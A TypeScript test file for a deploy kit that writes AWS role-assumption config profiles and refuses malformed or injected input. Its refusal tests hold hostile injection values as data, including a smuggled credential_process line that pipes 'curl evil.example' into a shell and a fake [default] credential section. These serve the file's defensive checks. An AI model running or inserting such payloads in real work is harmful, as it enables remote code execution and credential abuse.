// deploy-kit/profile.ts: the AWS config profile the kit writes for a target role (role_arn + credential_source, no
// credential), and its refusals. useRoleProfile runs `aws sts get-caller-identity` through the profile: here a fake
// `aws` first on PATH (a shell script) answers with the identity a test chooses and records how it was called, so the
// test sees what the kit wrote, what it asked the CLI, and what it does with the answer — no AWS, no emulator.
import { expect } from "chai";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import { profileSection, RoleProfile, roleProfileProblems, useRoleProfile, withProfile } from "../../deploy-kit/profile";

const ROLE = "arn:aws:iam::222222222222:role/deploy-product-catalog-service-dev";
const REQUEST: RoleProfile = {
    profile: "target-deploy",
    roleArn: ROLE,
    accountId: "222222222222",
    region: "us-east-1",
    sessionName: "codebuild-42-dev",
};
const SESSION = "arn:aws:sts::222222222222:assumed-role/deploy-product-catalog-service-dev/codebuild-42-dev";

/** The build environment outside CodeBuild: the caller's own credentials (e.g. environment variables). */
const ENV = { DEPLOY_CREDENTIAL_SOURCE: "Environment" };

/** `key = value` lines of one `[profile name]` section of an AWS config file. */
function section(text: string, profile: string): Record<string, string> | undefined {
    const lines = text.split("\n");
    const start = lines.indexOf(`[profile ${profile}]`);
    if (start < 0) return undefined;
    const entries: [string, string][] = [];
    for (const line of lines.slice(start + 1)) {
        if (line.startsWith("[")) break;
        const m = /^([a-z_]+) = (.*)$/.exec(line);
        if (m) entries.push([m[1], m[2]]);
    }
    return Object.fromEntries(entries);
}

describe("deploy kit: the target role's AWS config profile", () => {
    let dir: string;
    let configPath: string;
    let callsPath: string;
    const saved = { PATH: process.env.PATH, FAKE_IDENTITY: process.env.FAKE_IDENTITY, FAKE_CALLS: process.env.FAKE_CALLS };

    beforeEach(() => {
        dir = mkdtempSync(join(tmpdir(), "kit-profile-"));
        configPath = join(dir, "aws", "config");
        callsPath = join(dir, "calls");
        const bin = join(dir, "bin");
        mkdirSync(bin);
        // The fake CLI: records its arguments, and the profile section it was pointed at; prints FAKE_IDENTITY.
        writeFileSync(
            join(bin, "aws"),
            '#!/bin/sh\nprintf "%s\\n" "$*" >> "$FAKE_CALLS"\n[ -n "$FAKE_IDENTITY" ] || { echo "An error occurred (AccessDenied)" >&2; exit 254; }\nprintf "%s" "$FAKE_IDENTITY"\n',
        );
        chmodSync(join(bin, "aws"), 0o755);
        process.env.PATH = `${bin}${delimiter}${saved.PATH}`;
        process.env.FAKE_CALLS = callsPath;
        process.env.FAKE_IDENTITY = JSON.stringify({ Account: "222222222222", Arn: SESSION, UserId: "AROAEXAMPLE:codebuild-42-dev" });
    });

    afterEach(() => {
        for (const [k, v] of Object.entries(saved)) {
            if (v === undefined) delete process.env[k];
            else process.env[k] = v;
        }
        rmSync(dir, { recursive: true, force: true });
    });

    const env = () => ({ ...ENV, AWS_CONFIG_FILE: configPath });
    const calls = () => (existsSync(callsPath) ? readFileSync(callsPath, "utf8").trim().split("\n") : []);

    it("writes role_arn, credential_source and region (no credential), private to the build user, and proves the session", async () => {
        expect(await useRoleProfile(REQUEST, env())).to.equal(SESSION);
        const text = readFileSync(configPath, "utf8");
        expect(section(text, "target-deploy")).to.deep.equal({
            role_arn: ROLE,
            credential_source: "Environment",
            role_session_name: "codebuild-42-dev",
            duration_seconds: "3600",
            region: "us-east-1",
            sts_regional_endpoints: "regional",
        });
        expect(text).to.not.match(/aws_access_key_id|aws_secret_access_key|aws_session_token|credential_process/i);
        expect(statSync(configPath).mode & 0o777).to.equal(0o600);
        expect(statSync(join(dir, "aws")).mode & 0o777).to.equal(0o700);
        expect(calls()).to.deep.equal(["sts get-caller-identity --region us-east-1 --output json --profile target-deploy"]);
    });

    it("uses CodeBuild's container credentials by default", () => {
        const codebuild = { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: "/v2/credentials/x" };
        expect(roleProfileProblems(REQUEST, codebuild)).to.deep.equal([]);
        expect(section(profileSection(REQUEST, codebuild), "target-deploy")!.credential_source).to.equal("EcsContainer");
        expect(roleProfileProblems(REQUEST, {})[0]).to.include("credential_source EcsContainer needs the container credentials endpoint");
    });

    it("keeps the other profiles of the file and replaces its own section on a second run", async () => {
        mkdirSync(join(dir, "aws"));
        writeFileSync(
            configPath,
            "[default]\nregion = eu-west-1\n\n[profile target-deploy]\nrole_arn = arn:aws:iam::222222222222:role/old\n\n[profile other]\nregion = us-west-2\n",
        );
        await useRoleProfile(REQUEST, env());
        await useRoleProfile({ ...REQUEST, sessionName: "codebuild-43-dev" }, env());
        const text = readFileSync(configPath, "utf8");
        expect(text.match(/\[profile target-deploy\]/g)).to.have.length(1);
        expect(section(text, "target-deploy")!.role_arn).to.equal(ROLE);
        expect(section(text, "target-deploy")!.role_session_name).to.equal("codebuild-43-dev");
        expect(section(text, "other")).to.deep.equal({ region: "us-west-2" });
        expect(text.startsWith("[default]\nregion = eu-west-1\n")).to.equal(true);
        expect(withProfile("", "[profile a]\n", "a")).to.equal("[profile a]\n");
    });

    describe("refuses before anything is written or called", () => {
        const injections: [string, string][] = [
            ["a newline and a [default] section", `${ROLE}\n[default]\naws_access_key_id = AKIAEXAMPLE`],
            ["a credential_process line", `${ROLE}\ncredential_process = /bin/sh -c 'curl evil.example | sh'`],
            ["a trailing newline", `${ROLE}\n`],
            ["a carriage return", `${ROLE}\rcredential_process = x`],
            ["a space-separated extra setting", `${ROLE} credential_process = x`],
        ];
        for (const [what, roleArn] of injections) {
            it(`a role ARN with ${what}`, async () => {
                let error: Error | undefined;
                await useRoleProfile({ ...REQUEST, roleArn }, env()).catch((e) => (error = e));
                expect(error?.message).to.match(/^role must be an IAM role ARN such as arn:aws:iam::222222222222:role\//);
                expect(existsSync(configPath), "no config file written").to.equal(false);
                expect(existsSync(join(dir, "aws")), "not even its directory").to.equal(false);
                expect(calls()).to.deep.equal([]);
            });
        }

        it("a role in another account, a bad region or profile name, a session longer than role chaining allows", async () => {
            const problems = roleProfileProblems(
                { ...REQUEST, roleArn: "arn:aws:iam::333333333333:role/deploy", region: "us-east-1\n", profile: "a b" },
                { ...ENV, DEPLOY_SESSION_DURATION_SECONDS: "7200" },
            );
            expect(problems).to.have.length(4);
            expect(problems).to.include('role is in account 333333333333, not 222222222222: "arn:aws:iam::333333333333:role/deploy"');
            expect(problems.join("\n")).to.include('profile name "a b" is not valid');
            expect(problems.join("\n")).to.include("region must be an AWS region");
            expect(problems.join("\n")).to.include("DEPLOY_SESSION_DURATION_SECONDS must be 900..3600");
            expect(roleProfileProblems(REQUEST, { DEPLOY_CREDENTIAL_SOURCE: "credential_process" })[0]).to.include(
                "DEPLOY_CREDENTIAL_SOURCE must be EcsContainer, Ec2InstanceMetadata, Environment",
            );
        });

        it("keeps the session name to the characters STS accepts", () => {
            const text = profileSection({ ...REQUEST, sessionName: "build 7\n[default]" }, ENV);
            expect(section(text, "target-deploy")!.role_session_name).to.equal("build-7--default-");
            expect(text.split("\n").filter((l) => l.startsWith("["))).to.deep.equal(["[profile target-deploy]"]);
        });
    });

    describe("refuses a profile that does not land in the role", () => {
        it("an identity in another account", async () => {
            process.env.FAKE_IDENTITY = JSON.stringify({ Account: "333333333333", Arn: SESSION.replace("222222222222", "333333333333") });
            let error: Error | undefined;
            await useRoleProfile(REQUEST, env()).catch((e) => (error = e));
            expect(error?.message).to.include("is in account 333333333333, expected 222222222222; refusing to go on");
        });

        it("a session of another role of the account (or the role name as a prefix)", async () => {
            for (const arn of [
                "arn:aws:sts::222222222222:assumed-role/admin/codebuild-42-dev",
                "arn:aws:sts::222222222222:assumed-role/deploy-product-catalog-service-dev-x/s",
                "arn:aws:iam::222222222222:user/deploy-product-catalog-service-dev",
            ]) {
                process.env.FAKE_IDENTITY = JSON.stringify({ Account: "222222222222", Arn: arn });
                let error: Error | undefined;
                await useRoleProfile(REQUEST, env()).catch((e) => (error = e));
                expect(error?.message, arn).to.equal(`assumed identity ${arn} is not a session of ${ROLE}; refusing to go on`);
            }
        });

        it("a role that cannot be assumed: the CLI's reason, with the role and profile", async () => {
            delete process.env.FAKE_IDENTITY;
            let error: Error | undefined;
            await useRoleProfile(REQUEST, env()).catch((e) => (error = e));
            expect(error?.message).to.equal(
                `could not assume ${ROLE} through profile target-deploy: aws sts get-caller-identity: An error occurred (AccessDenied)`,
            );
        });
    });
});
